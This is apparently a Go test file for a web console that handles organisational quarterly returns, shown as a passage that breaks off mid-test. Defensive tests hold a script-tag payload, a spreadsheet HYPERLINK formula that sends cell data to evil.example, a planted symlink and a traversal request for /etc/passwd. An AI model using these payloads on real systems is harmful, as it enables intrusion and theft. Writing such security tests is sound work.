package web_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/returns-project/returns/etl/digest"
	"github.com/returns-project/returns/etl/domain"
	"github.com/returns-project/returns/etl/store"
	"github.com/returns-project/returns/etl/store/storetest"
	"github.com/returns-project/returns/etl/web"
)

// ict is the users' zone (the configuration's time_zone), UTC+7.
var ict = time.FixedZone("ICT", 7*60*60)

func TestMain(m *testing.M) { storetest.Main(m) }

// bundle is a console on a fresh database.
type bundle struct {
	st    *store.Store
	state string
	srv   *httptest.Server
}

// setup starts a console whose configured address is listen ("" for the
// test server's own loopback address).
func setup(t *testing.T, listen string, tune ...func(*web.Config)) *bundle {
	t.Helper()
	b := &bundle{st: storetest.New(t), state: t.TempDir()}
	for _, d := range []string{"inbox", "rejected", "archive"} {
		require.NoError(t, os.MkdirAll(filepath.Join(b.state, d), 0o750))
	}
	var h http.Handler
	b.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { h.ServeHTTP(w, r) }))
	t.Cleanup(b.srv.Close)
	if listen == "" {
		listen = b.srv.Listener.Addr().String()
	}
	cfg := web.Config{Store: b.st, StateDir: b.state, Listen: listen, Zone: ict, DeadlineDays: 10, InsecureCookies: true,
		Logger: slog.New(slog.NewTextHandler(t.Output(), &slog.HandlerOptions{Level: slog.LevelWarn}))}
	for _, f := range tune {
		f(&cfg)
	}
	var err error
	h, err = web.New(cfg)
	require.NoError(t, err)
	return b
}

// client is a browser without script: a cookie jar, no redirect following
// unless asked.
type client struct {
	t    *testing.T
	base string
	c    *http.Client
}

func (b *bundle) client(t *testing.T) *client {
	jar, _ := cookiejar.New(nil)
	return &client{t: t, base: b.srv.URL, c: &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error {
		return http.ErrUseLastResponse
	}}}
}

// get returns the status and body of a page.
func (c *client) get(path string) (int, string) {
	c.t.Helper()
	resp, err := c.c.Get(c.base + path)
	require.NoError(c.t, err)
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	require.NoError(c.t, err)
	return resp.StatusCode, string(body)
}

func (c *client) post(path string, form url.Values) (*http.Response, string) {
	c.t.Helper()
	req, err := http.NewRequest(http.MethodPost, c.base+path, strings.NewReader(form.Encode()))
	require.NoError(c.t, err)
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	resp, err := c.c.Do(req)
	require.NoError(c.t, err)
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return resp, string(body)
}

var csrfRE = regexp.MustCompile(`name="csrf" value="([0-9a-f]+)"`)

func csrfOf(t *testing.T, body string) string {
	t.Helper()
	m := csrfRE.FindStringSubmatch(body)
	require.NotNil(t, m, "no CSRF token in the page")
	return m[1]
}

const password = "mật khẩu đủ dài 2026"

func (b *bundle) account(t *testing.T, login, role, org string) {
	t.Helper()
	h, err := web.HashPassword(password)
	require.NoError(t, err)
	_, err = b.st.CreateAccount(context.Background(), login, role, org, h)
	require.NoError(t, err)
}

// signIn signs in and returns the session's client.
func (b *bundle) signIn(t *testing.T, login string) *client {
	t.Helper()
	c := b.client(t)
	_, body := c.get("/signin")
	resp, _ := c.post("/signin", url.Values{"csrf": {csrfOf(t, body)}, "login": {login}, "password": {password}})
	require.Equal(t, http.StatusSeeOther, resp.StatusCode, "sign-in of %s", login)
	return c
}

// exec runs SQL on the test database.
func (b *bundle) exec(t *testing.T, q string, args ...any) {
	t.Helper()
	_, err := b.st.DB().ExecContext(context.Background(), q, args...)
	require.NoError(t, err, q)
}

func TestOpenOnlyOnLoopbackWithoutAccounts(t *testing.T) {
	t.Parallel()
	t.Run("loopback, no account: open", func(t *testing.T) {
		t.Parallel()
		b := setup(t, "")
		storetest.Canaries(t, b.st)
		code, body := b.client(t).get("/?q=2025-Q3")
		require.Equal(t, http.StatusOK, code)
		require.Contains(t, body, `id="board"`)
	})
	t.Run("any other address: sign in", func(t *testing.T) {
		t.Parallel()
		b := setup(t, "0.0.0.0:8787")
		for _, p := range []string{"/", "/files", "/files/1", "/files/1/annotated", "/orgs/T", "/upload", "/outbox", "/digests", "/uploads/1"} {
			resp, err := b.client(t).c.Get(b.srv.URL + p)
			require.NoError(t, err)
			resp.Body.Close()
			require.Equal(t, http.StatusSeeOther, resp.StatusCode, p)
			require.True(t, strings.HasPrefix(resp.Header.Get("Location"), "/signin?next="), p)
		}
	})
	t.Run("loopback with an account: sign in", func(t *testing.T) {
		t.Parallel()
		b := setup(t, "")
		b.account(t, "admin", store.RoleAdministrator, "")
		resp, err := b.client(t).c.Get(b.srv.URL + "/")
		require.NoError(t, err)
		resp.Body.Close()
		require.Equal(t, http.StatusSeeOther, resp.StatusCode)
	})
}

func TestSignIn(t *testing.T) {
	t.Parallel()
	b := setup(t, "0.0.0.0:8787", func(c *web.Config) { c.InsecureCookies = false })
	storetest.Canaries(t, b.st)
	b.account(t, "admin", store.RoleAdministrator, "")
	b.account(t, "victim", store.RoleManager, "T-D1")

	t.Run("no CSRF token: refused", func(t *testing.T) {
		c := b.client(t)
		c.get("/signin")
		resp, _ := c.post("/signin", url.Values{"login": {"admin"}, "password": {password}})
		require.Equal(t, http.StatusForbidden, resp.StatusCode)
	})
	t.Run("cross-origin POST: refused", func(t *testing.T) {
		c := b.client(t)
		_, body := c.get("/signin")
		req, _ := http.NewRequest(http.MethodPost, b.srv.URL+"/signin", strings.NewReader(url.Values{"csrf": {csrfOf(t, body)},
			"login": {"admin"}, "password": {password}}.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.Header.Set("Sec-Fetch-Site", "cross-site")
		resp, err := c.c.Do(req)
		require.NoError(t, err)
		resp.Body.Close()
		require.Equal(t, http.StatusForbidden, resp.StatusCode)
	})
	t.Run("good password: a secure session cookie, stored only hashed", func(t *testing.T) {
		c := b.client(t)
		_, body := c.get("/signin")
		resp, _ := c.post("/signin", url.Values{"csrf": {csrfOf(t, body)}, "login": {"admin"}, "password": {password}})
		require.Equal(t, http.StatusSeeOther, resp.StatusCode)
		var ses *http.Cookie
		for _, ck := range resp.Cookies() {
			if ck.Name == "returns_session" {
				ses = ck
			}
		}
		require.NotNil(t, ses)
		require.True(t, ses.Secure && ses.HttpOnly && ses.SameSite == http.SameSiteStrictMode, "cookie flags: %+v", ses)
		var n int
		require.NoError(t, b.st.DB().Get(&n, `SELECT count(*) FROM returns.web_session WHERE token_sha256 = $1`, ses.Value))
		require.Zero(t, n, "the raw token must not be stored")
		require.NoError(t, b.st.DB().Get(&n, `SELECT count(*) FROM returns.web_session`))
		require.Equal(t, 1, n)
		var hash string
		require.NoError(t, b.st.DB().Get(&hash, `SELECT password_hash FROM returns.web_account WHERE login = 'admin'`))
		require.True(t, strings.HasPrefix(hash, "$2a$12$"), "bcrypt hash expected, got %.7s", hash)
	})
	t.Run("failed sign-ins lock the account", func(t *testing.T) {
		c := b.client(t)
		for i := 0; i < 5; i++ {
			_, body := c.get("/signin")
			resp, page := c.post("/signin", url.Values{"csrf": {csrfOf(t, body)}, "login": {"victim"}, "password": {"wrong password " + fmt.Sprint(i)}})
			require.Equal(t, http.StatusUnauthorized, resp.StatusCode)
			require.Contains(t, page, "không đúng")
		}
		_, body := c.get("/signin")
		resp, page := c.post("/signin", url.Values{"csrf": {csrfOf(t, body)}, "login": {"victim"}, "password": {password}})
		require.Equal(t, http.StatusTooManyRequests, resp.StatusCode, "the right password while locked")
		require.Contains(t, page, "tạm khoá")
		require.NoError(t, b.st.SetPassword(context.Background(), "victim", mustHash(t)))
		b.signIn(t, "victim")
	})
}

func mustHash(t *testing.T) string {
	h, err := web.HashPassword(password)
	require.NoError(t, err)
	return h
}

// TestBoardSameFiguresAsStatus checks the board's lines against
// store.QuarterBoard (what `returns status` prints) and its totals against
// counts computed here in SQL, for an administrator and, through the
// scoped views, for a manager of the whole province.
func TestBoardSameFiguresAsStatus(t *testing.T) {
	t.Parallel()
	b := setup(t, "0.0.0.0:8787")
	storetest.Canaries(t, b.st)
	// T-D3-1 was rejected once before its return loaded; T-D3-2 only
	// rejected; T-D4-7's return arrived late.
	b.exec(t, `INSERT INTO returns.file_event (sha256, file_name, org_code, year, quarter, outcome, reason, received_at, decided_at)
		VALUES ('a1', 'x.xlsx', 'T-D3-1', 2025, 3, 'rejected', 'INVALID_DATA', '2025-10-02', '2025-10-02'),
		       ('a2', 'y.xlsx', 'T-D3-2', 2025, 3, 'rejected', 'CORRUPT_ZIP', '2025-10-02', '2025-10-02')`)
	b.exec(t, `DELETE FROM returns.admission WHERE submission_id IN (SELECT id FROM returns.submission WHERE org_code IN ('T-D3-2', 'T-D3-3'))`)
	b.exec(t, `DELETE FROM returns.summary WHERE submission_id IN (SELECT id FROM returns.submission WHERE org_code IN ('T-D3-2', 'T-D3-3'))`)
	b.exec(t, `DELETE FROM returns.submission WHERE org_code IN ('T-D3-2', 'T-D3-3')`)
	b.exec(t, `UPDATE returns.submission SET received_at = '2025-10-20' WHERE org_code = 'T-D4-7'`)
	b.account(t, "admin", store.RoleAdministrator, "")
	b.account(t, "province", store.RoleManager, "T")

	rows, err := b.st.QuarterBoard(context.Background(), 2025, 3)
	require.NoError(t, err)
	var want struct{ Total, Loaded, Late, Rejected, Missing int }
	require.NoError(t, b.st.DB().Get(&want.Total, `SELECT count(*) FROM returns.org_unit WHERE org_type IN ('DANG_BO_CO_SO', 'CHI_BO_CO_SO')
		AND valid_from_q <= 8102 AND (valid_to_q IS NULL OR valid_to_q >= 8102)`))
	require.NoError(t, b.st.DB().Get(&want.Loaded, `SELECT count(*) FROM returns.submission s JOIN returns.org_unit o ON o.code = s.org_code
		WHERE s.year = 2025 AND s.quarter = 3 AND s.status = 'accepted' AND o.org_type IN ('DANG_BO_CO_SO', 'CHI_BO_CO_SO')`))
	require.NoError(t, b.st.DB().Get(&want.Late, `SELECT count(*) FROM returns.submission WHERE year = 2025 AND quarter = 3 AND received_at >= '2025-10-11 00:00+07'`))
	require.NoError(t, b.st.DB().Get(&want.Rejected, `SELECT count(DISTINCT org_code) FROM returns.file_event e WHERE year = 2025 AND quarter = 3
		AND outcome = 'rejected' AND NOT EXISTS (SELECT 1 FROM returns.submission s WHERE s.org_code = e.org_code AND s.year = 2025 AND s.quarter = 3)`))
	want.Missing = want.Total - want.Loaded - want.Rejected
	require.Equal(t, 27, want.Total)
	require.Equal(t, 1, want.Late)
	require.Equal(t, 1, want.Rejected)
	require.Equal(t, 1, want.Missing)
	require.Len(t, rows, want.Total)

	for _, login := range []string{"admin", "province"} {
		t.Run(login, func(t *testing.T) {
			c := b.signIn(t, login)
			code, body := c.get("/?q=2025-Q3")
			require.Equal(t, http.StatusOK, code)
			for id, n := range map[string]int{"total": want.Total, "n-loaded": want.Loaded, "n-late": want.Late,
				"n-rejected": want.Rejected, "n-missing": want.Missing} {
				require.Contains(t, body, fmt.Sprintf(`id="%s">%d<`, id, n), id)
			}
			require.Contains(t, body, `id="deadline">10/10/2025<`)
			for _, r := range rows {
				require.Contains(t, body, `href="/orgs/`+r.Org+`"`)
			}
			require.Equal(t, want.Total, strings.Count(body, `data-status=`))
			// The filter by a parent keeps its subtree only.
			_, body = c.get("/?q=2025-Q3&parent=T-D3")
			require.Equal(t, 7, strings.Count(body, `data-status=`))
			require.Contains(t, body, `id="n-rejected">1<`)
		})
	}
	// And with the digest's completeness section for the whole province
	// (where "missing" counts the rejected too).
	f, err := b.st.DigestFacts(context.Background(), "T", domain.Quarter{Year: 2025, Q: 3}, store.FactsOptions{DeadlineDays: 10, Zone: time.UTC})
	require.NoError(t, err)
	cm := digest.Build(f).Completeness
	require.Equal(t, []int{want.Total, want.Loaded, want.Late, want.Rejected, want.Missing + want.Rejected},
		[]int{cm.Expected, cm.Reported, cm.Late, cm.Rejected, cm.Missing})

	// The scoped board agrees line by line with QuarterBoard under the root.
	err = b.st.View(context.Background(), store.Viewer{Scope: "T"}, func(c *store.Console) error {
		got, err := c.Board(context.Background(), 2025, 3)
		if err != nil {
			return err
		}
		require.Len(t, got, len(rows))
		for i := range rows {
			want := rows[i]
			want.Emails = nil
			require.Equal(t, want.Org, got[i].Org)
			require.Equal(t, want.Current.SubmissionID, got[i].Current.SubmissionID)
			require.Equal(t, want.Rejected, got[i].Rejected)
			require.Equal(t, want.LastReason, got[i].LastReason)
			require.True(t, want.FirstReceivedAt.Time.Equal(got[i].FirstReceivedAt.Time))
		}
		return nil
	})
	require.NoError(t, err)
}

var (
	canaryRE   = regexp.MustCompile(`CANARY ([A-Z0-9-]+)`)
	canaryFile = regexp.MustCompile(`canary-([A-Z0-9-]+)\.xlsx`)
)

// TestCanaryScope: a manager (and an operator) sees exactly the canaries of
// its subtree, on every page and download, names allowed; everything
// outside is not found.
func TestCanaryScope(t *testing.T) {
	t.Parallel()
	b := setup(t, "0.0.0.0:8787", func(c *web.Config) { c.ManagerPersonalData = true })
	tree := storetest.Canaries(t, b.st)
	ctx := context.Background()
	// Each organisation also has a rejected file named after it, with an
	// issue whose value names its canary, and the file's annotated workbook
	// in rejected/ holding the canary's name.
	for i, o := range tree.Orgs {
		data := []byte("PK annotated workbook of " + storetest.CanaryName(o.Code))
		orig := []byte(fmt.Sprintf("original %d of %s", i, o.Code))
		name := "canary-" + o.Code + ".xlsx"
		require.NoError(t, os.WriteFile(filepath.Join(b.state, "rejected", name), orig, 0o640))
		require.NoError(t, os.WriteFile(filepath.Join(b.state, "rejected", name+".loi.xlsx"), data, 0o640))
		var id int64
		require.NoError(t, b.st.DB().GetContext(ctx, &id, `INSERT INTO returns.file_event (sha256, file_name, org_code, year, quarter, outcome, reason,
			errors, received_at, decided_at) VALUES ($1, $2, $3, 2025, 3, 'rejected', 'INVALID_DATA', 1, '2025-10-02', '2025-10-02') RETURNING id`,
			sha(orig), name, o.Code))
		b.exec(t, `INSERT INTO returns.validation_issue (file_event_id, sheet, cell, source_row, field, rule_id, severity, value, message_vi, message_en)
			VALUES ($1, 'KetNap', 'B3', 3, 'full_name', 'KN-01', 'error', $2, 'lỗi', 'error')`, id, storetest.CanaryName(o.Code))
		// And a loaded file for its submission.
		b.exec(t, `INSERT INTO returns.file_event (sha256, file_name, org_code, year, quarter, outcome, submission_id, received_at, decided_at)
			SELECT sha256, 'canary-' || org_code || '.xlsx', org_code, year, quarter, 'loaded', id, received_at, received_at
			FROM returns.submission WHERE org_code = $1`, o.Code)
	}
	var events, subs []int64
	require.NoError(t, b.st.DB().Select(&events, `SELECT id FROM returns.file_event ORDER BY id`))
	require.NoError(t, b.st.DB().Select(&subs, `SELECT id FROM returns.submission ORDER BY id`))
	var pages []string
	for _, q := range []string{"2025-Q2", "2025-Q3", "2025-Q4"} {
		pages = append(pages, "/?q="+q)
	}
	pages = append(pages, "/files", "/files?outcome=rejected", "/upload", "/outbox", "/digests")
	for _, o := range tree.Orgs {
		pages = append(pages, "/orgs/"+o.Code, "/files?org="+o.Code, "/?q=2025-Q3&parent="+o.Code)
	}
	for _, id := range events {
		pages = append(pages, fmt.Sprintf("/files/%d", id), fmt.Sprintf("/files/%d/annotated", id), fmt.Sprintf("/uploads/%d", id))
	}
	for _, id := range subs {
		for _, sh := range store.RowSheets {
			pages = append(pages, fmt.Sprintf("/submissions/%d/rows/%s", id, sh))
		}
	}
	b.account(t, "admin", store.RoleAdministrator, "")
	for _, who := range []struct{ login, role, scope string }{
		{"d1", store.RoleManager, "T-D1"}, {"d2", store.RoleManager, "T-D2"}, {"merged", store.RoleManager, "T-D2-M"},
		{"op", store.RoleOperator, "T-D1-3"},
	} {
		b.account(t, who.login, who.role, who.scope)
		t.Run(who.login, func(t *testing.T) {
			c := b.signIn(t, who.login)
			want := tree.Subtree(who.scope)
			seen := map[string]bool{}
			for _, p := range pages {
				code, body := c.get(p)
				require.Contains(t, []int{200, 403, 404}, code, p)
				for _, re := range []*regexp.Regexp{canaryRE, canaryFile} {
					for _, m := range re.FindAllStringSubmatch(body, -1) {
						require.True(t, slices.Contains(want, m[1]), "%s sees %q on %s", who.login, m[0], p)
						seen[m[1]] = true
					}
				}
			}
			var got []string
			for code := range seen {
				got = append(got, code)
			}
			slices.Sort(got)
			require.Equal(t, want, got, "every canary of the subtree is visible")
		})
	}
	t.Run("admin sees all", func(t *testing.T) {
		c := b.signIn(t, "admin")
		_, body := c.get("/files")
		require.Len(t, uniq(canaryFile.FindAllStringSubmatch(body, -1)), len(tree.Orgs))
	})
}

func uniq(ms [][]string) map[string]bool {
	out := map[string]bool{}
	for _, m := range ms {
		out[m[1]] = true
	}
	return out
}

// TestPayloadsInert: text from workbooks (file names, cell values, names)
// is shown as text: no tag, no formula, no link is made of it.
func TestPayloadsInert(t *testing.T) {
	t.Parallel()
	b := setup(t, "")
	storetest.Canaries(t, b.st)
	const script = `<script>alert("x")</script>`
	const formula = `=HYPERLINK("http://evil.example/?q="&A1,"bấm vào")`
	var id int64
	require.NoError(t, b.st.DB().Get(&id, `INSERT INTO returns.file_event (sha256, file_name, org_code, year, quarter, outcome, reason, errors,
		received_at, decided_at) VALUES ('ab', $1, 'T-D1-3', 2025, 3, 'rejected', 'INVALID_DATA', 2, now(), now()) RETURNING id`, script+".xlsx"))
	b.exec(t, `INSERT INTO returns.validation_issue (file_event_id, sheet, cell, field, rule_id, severity, value, message_vi, message_en)
		VALUES ($1, $2, 'B3', 'full_name', 'KN-01', 'error', $2, 'lỗi ' || $2, 'error'), ($1, 'KetNap', 'C3', 'x', 'KN-02', 'error', $3, 'lỗi', 'error')`,
		id, script, formula)
	b.exec(t, `UPDATE returns.admission SET full_name = $1 WHERE submission_id = (SELECT id FROM returns.submission WHERE org_code = 'T-D1-3')`, formula+script)
	var sub int64
	require.NoError(t, b.st.DB().Get(&sub, `SELECT id FROM returns.submission WHERE org_code = 'T-D1-3'`))
	c := b.client(t)
	for _, p := range []string{fmt.Sprintf("/files/%d", id), "/files", fmt.Sprintf("/submissions/%d/rows/KetNap", sub)} {
		code, body := c.get(p)
		require.Equal(t, http.StatusOK, code, p)
		require.NotContains(t, body, "<script", p)
		require.NotContains(t, body, `href="http://evil`, p)
		require.Contains(t, body, "&lt;script&gt;", p)
	}
	_, body := c.get(fmt.Sprintf("/files/%d", id))
	require.Contains(t, body, `=HYPERLINK(&#34;http://evil.example/?q=&#34;&amp;A1,&#34;bấm vào&#34;)`)
}

// TestDownloadStaysInStateDir: the annotated workbook is found by the
// content of its original, and a link planted in rejected/ that leads
// outside the state directory is never followed.
func TestDownloadStaysInStateDir(t *testing.T) {
	t.Parallel()
	b := setup(t, "")
	outside := filepath.Join(t.TempDir(), "secret.txt")
	require.NoError(t, os.WriteFile(outside, []byte("SECRET OUTSIDE"), 0o600))
	orig := []byte("the original")
	rej := filepath.Join(b.state, "rejected")
	require.NoError(t, os.WriteFile(filepath.Join(rej, "a-1234abcd.xlsx"), orig, 0o640))
	require.NoError(t, os.WriteFile(filepath.Join(rej, "a-1234abcd.loi.xlsx"), []byte("ANNOTATED"), 0o640))
	// A second original of the same name (another content) must not be taken.
	require.NoError(t, os.WriteFile(filepath.Join(rej, "a.xlsx"), []byte("other"), 0o640))
	require.NoError(t, os.WriteFile(filepath.Join(rej, "a.loi.xlsx"), []byte("WRONG ONE"), 0o640))
	// A planted original and report that point outside.
	evil := []byte("evil original")
	require.NoError(t, os.WriteFile(filepath.Join(rej, "b.xlsx"), evil, 0o640))
	require.NoError(t, os.Symlink(outside, filepath.Join(rej, "b.loi.xlsx")))
	var good, bad int64
	require.NoError(t, b.st.DB().Get(&good, `INSERT INTO returns.file_event (sha256, file_name, outcome, reason, received_at)
		VALUES ($1, 'a.xlsx', 'rejected', 'INVALID_DATA', now()) RETURNING id`, sha(orig)))
	require.NoError(t, b.st.DB().Get(&bad, `INSERT INTO returns.file_event (sha256, file_name, outcome, reason, received_at)
		VALUES ($1, 'b.xlsx', 'rejected', 'INVALID_DATA', now()) RETURNING id`, sha(evil)))
	c := b.client(t)
	code, body := c.get(fmt.Sprintf("/files/%d/annotated", good))
	require.Equal(t, http.StatusOK, code)
	require.Equal(t, "ANNOTATED", body)
	code, body = c.get(fmt.Sprintf("/files/%d/annotated", bad))
	require.NotEqual(t, http.StatusOK, code)
	require.NotContains(t, body, "SECRET")
	code, _ = c.get("/files/../../etc/passwd/annotated")
	require.NotEqual(t, http.StatusOK, code)
}

// TestUploadEntersInbox: an upload lands in inbox/<org>/ under its final
// name only once complete (no temporary file left), is recorded with its
// SHA-256, and its page waits (meta refresh) until the outcome of that
// content is recorded, then shows it.
func TestUploadEntersInbox(t *testing.T) {
	t.Parallel()
	b := setup(t, "0.0.0.0:8787")
	storetest.Canaries(t, b.st)
	b.account(t, "op", store.RoleOperator, "T-D1-3")
	b.account(t, "other", store.RoleOperator, "T-D1-4")
	c := b.signIn(t, "op")
	_, form := c.get("/upload")
	content := []byte("not really a workbook, the daemon will say so")
	resp := c.upload(t, csrfOf(t, form), "../../báo cáo quý.xlsx", content)
	require.Equal(t, http.StatusSeeOther, resp.StatusCode)
	loc := resp.Header.Get("Location")
	require.Regexp(t, `^/uploads/\d+$`, loc)
	entries, err := os.ReadDir(filepath.Join(b.state, "inbox", "T-D1-3"))
	require.NoError(t, err)
	require.Len(t, entries, 1, "one file, no temporary left")
	name := entries[0].Name()
	require.Regexp(t, `^báo cáo quý-web[0-9a-f]{6}\.xlsx$`, name)
	got, err := os.ReadFile(filepath.Join(b.state, "inbox", "T-D1-3", name))
	require.NoError(t, err)
	require.Equal(t, content, got)

	code, body := c.get(loc)
	require.Equal(t, http.StatusOK, code)
	require.Contains(t, body, `http-equiv="refresh"`)
	require.Contains(t, body, `id="waiting"`)
	// Another operator cannot see it.
	code, _ = b.signIn(t, "other").get(loc)
	require.Equal(t, http.StatusNotFound, code)
	// The daemon's verdict (not in T-D1-3's scope: the file had no organisation).
	b.exec(t, `INSERT INTO returns.file_event (sha256, file_name, outcome, reason, received_at) VALUES ($1, $2, 'rejected', 'NOT_XLSX', now())`,
		sha(content), name)
	_, body = c.get(loc)
	require.NotContains(t, body, `http-equiv="refresh"`)
	require.Contains(t, body, `data-outcome="rejected"`)
	require.Contains(t, body, "Báo cáo bị từ chối")
	t.Run("set aside by the inbox: the reason is shown", func(t *testing.T) {
		_, form := c.get("/upload")
		resp := c.upload(t, csrfOf(t, form), "to-quarantine.xlsx", []byte("other content"))
		loc := resp.Header.Get("Location")
		entries, err := os.ReadDir(filepath.Join(b.state, "inbox", "T-D1-3"))
		require.NoError(t, err)
		var name string
		for _, e := range entries {
			if strings.HasPrefix(e.Name(), "to-quarantine") {
				name = e.Name()
			}
		}
		require.NotEmpty(t, name)
		// What the inbox's scan does with a file it will not judge.
		q := filepath.Join(b.state, "quarantine")
		require.NoError(t, os.MkdirAll(q, 0o750))
		require.NoError(t, os.Rename(filepath.Join(b.state, "inbox", "T-D1-3", name), filepath.Join(q, name)))
		require.NoError(t, os.WriteFile(filepath.Join(q, name+".reason.txt"), []byte("Mã lý do / Reason: TOO_LARGE\n<b>"), 0o640))
		_, body := c.get(loc)
		require.Contains(t, body, `data-outcome="quarantined"`)
		require.Contains(t, body, "TOO_LARGE")
		require.Contains(t, body, "&lt;b&gt;")
		require.NotContains(t, body, `http-equiv="refresh"`)
		require.NoError(t, os.Remove(filepath.Join(q, name)))
	})
	t.Run("no token: refused, nothing written", func(t *testing.T) {
		resp := c.upload(t, "", "x.xlsx", content)
		require.Equal(t, http.StatusForbidden, resp.StatusCode)
		entries, _ := os.ReadDir(filepath.Join(b.state, "inbox", "T-D1-3"))
		require.Len(t, entries, 1)
	})
	t.Run("a manager cannot upload", func(t *testing.T) {
		b.account(t, "mgr", store.RoleManager, "T-D1")
		code, _ := b.signIn(t, "mgr").get("/upload")
		require.Equal(t, http.StatusForbidden, code)
	})
}

func (c *client) upload(t *testing.T, csrf, name string, data []byte) *http.Response {
	t.Helper()
	var buf strings.Builder
	const boundary = "XBOUNDARYX"
	fmt.Fprintf(&buf, "--%s\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n%s\r\n", boundary, csrf)
	fmt.Fprintf(&buf, "--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=%q\r\nContent-Type: application/octet-stream\r\n\r\n%s\r\n--%s--\r\n",
		boundary, name, data, boundary)
	req, err := http.NewRequest(http.MethodPost, c.base+"/upload", strings.NewReader(buf.String()))
	require.NoError(t, err)
	req.Header.Set("Content-Type", "multipart/form-data; boundary="+boundary)
	resp, err := c.c.Do(req)
	require.NoError(t, err)
	resp.Body.Close()
	return resp
}

func sha(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// TestVersionHistory: a file's page lists every version of its
// organisation's return for the quarter with what changed from the one
// before: rows added, removed and changed per sheet, ThongTin figures.
func TestVersionHistory(t *testing.T) {
	t.Parallel()
	b := setup(t, "")
	storetest.Canaries(t, b.st)
	ctx := context.Background()
	var v1, v2 int64
	require.NoError(t, b.st.DB().GetContext(ctx, &v1, `SELECT id FROM returns.submission WHERE org_code = 'T-D3-4'`))
	b.exec(t, `UPDATE returns.submission SET status = 'superseded' WHERE id = $1`, v1)
	require.NoError(t, b.st.DB().GetContext(ctx, &v2, `INSERT INTO returns.submission (org_code, year, quarter, template_version, file_name, sha256,
		received_at, version, status) VALUES ('T-D3-4', 2025, 3, 'BCQ-1', 'v2.xlsx', repeat('e', 64), '2025-10-05', 2, 'accepted') RETURNING id`))
	b.exec(t, `UPDATE returns.submission SET superseded_by = $2 WHERE id = $1`, v1, v2)
	b.exec(t, `INSERT INTO returns.summary (submission_id, source_sheet, source_row, members_start_official, members_start_probationary, admitted,
		members_end_official, members_end_probationary) VALUES ($1, 'ThongTin', 2, 10, 0, 3, 10, 3)`, v2)
	// Version 1 has the canary; add Bình and Cúc. Version 2 keeps the
	// canary, changes Bình's decision, drops Cúc and adds Dũng.
	b.exec(t, `INSERT INTO returns.admission (submission_id, source_sheet, source_row, full_name, name_key, birth_date, decision_no) VALUES
		($1, 'KetNap', 4, 'Bình', 'binh', '2000-01-01', '2-QĐ'), ($1, 'KetNap', 5, 'Cúc', 'cuc', '2000-01-02', '3-QĐ'),
		($2, 'KetNap', 3, 'Bình', 'binh', '2000-01-01', '9-QĐ'), ($2, 'KetNap', 5, 'Dũng', 'dung', '2000-01-03', '4-QĐ')`, v1, v2)
	b.exec(t, `INSERT INTO returns.admission (submission_id, source_sheet, source_row, full_name, gender, ethnicity_code, religion_code,
		workplace_sector, is_youth_union_member, is_readmission, decision_no, ceremony_date)
		SELECT $2, 'KetNap', 2, full_name, gender, ethnicity_code, religion_code, workplace_sector, is_youth_union_member, is_readmission,
			decision_no, ceremony_date FROM returns.admission WHERE submission_id = $1 AND full_name LIKE 'CANARY%'`, v1, v2)
	var ev int64
	require.NoError(t, b.st.DB().GetContext(ctx, &ev, `INSERT INTO returns.file_event (sha256, file_name, org_code, year, quarter, outcome,
		submission_id, received_at) VALUES (repeat('e', 64), 'v2.xlsx', 'T-D3-4', 2025, 3, 'loaded', $1, '2025-10-05') RETURNING id`, v2))
	_, body := b.client(t).get(fmt.Sprintf("/files/%d", ev))
	require.Contains(t, body, "KetNap: +1 thêm, −1 bớt, 1 sửa")
	require.Contains(t, body, "ThongTin: kết nạp 1 → 3")
	require.Contains(t, body, "ThongTin: ĐV cuối kỳ 11 → 13")
	require.Contains(t, body, "bản đầu tiên")
	require.Contains(t, body, "<tr><td>2</td>")
}

// TestPersonalData: names of people reach a manager only when the
// configuration allows it; operators and administrators see them.
func TestPersonalData(t *testing.T) {
	t.Parallel()
	b := setup(t, "0.0.0.0:8787") // ManagerPersonalData false: the default
	storetest.Canaries(t, b.st)
	var sub, ev int64
	require.NoError(t, b.st.DB().Get(&sub, `SELECT id FROM returns.submission WHERE org_code = 'T-D1-3'`))
	require.NoError(t, b.st.DB().Get(&ev, `INSERT INTO returns.file_event (sha256, file_name, org_code, year, quarter, outcome, reason, errors,
		received_at) VALUES ('cd', 'x.xlsx', 'T-D1-3', 2025, 3, 'rejected', 'INVALID_DATA', 1, now()) RETURNING id`))
	b.exec(t, `INSERT INTO returns.validation_issue (file_event_id, sheet, cell, field, rule_id, severity, value, message_vi, message_en)
		VALUES ($1, 'KetNap', 'B3', 'full_name', 'KN-01', 'error', 'CANARY T-D1-3', 'lỗi', 'error')`, ev)
	b.account(t, "mgr", store.RoleManager, "T-D1")
	b.account(t, "op", store.RoleOperator, "T-D1-3")
	pages := []string{fmt.Sprintf("/submissions/%d/rows/KetNap", sub), fmt.Sprintf("/files/%d", ev)}
	for _, p := range pages {
		code, body := b.signIn(t, "mgr").get(p)
		require.Equal(t, http.StatusOK, code, p)
		require.NotContains(t, body, "CANARY", "a manager sees a name on %s", p)
		code, body = b.signIn(t, "op").get(p)
		require.Equal(t, http.StatusOK, code, p)
		require.Contains(t, body, "CANARY T-D1-3", "the operator sees its own names on %s", p)
	}
}

// TestOutboxAndDigests: the administrator sees the outbox with each mail's
// status and last error, and a mail's HTML only in a sandboxed frame with
// its own restrictive policy; a manager does not see the outbox.
func TestOutboxAndDigests(t *testing.T) {
	t.Parallel()
	b := setup(t, "")
	var id int64
	require.NoError(t, b.st.DB().Get(&id, `INSERT INTO returns.outbox (message_id, kind, dedupe_key, recipients, subject, body_text, body_html,
		status, attempts, next_attempt_at, last_error, created_at) VALUES ('<a@b>', 'digest', 'k1', '{quanly@example.vn}', 'Tổng hợp quý III/2025',
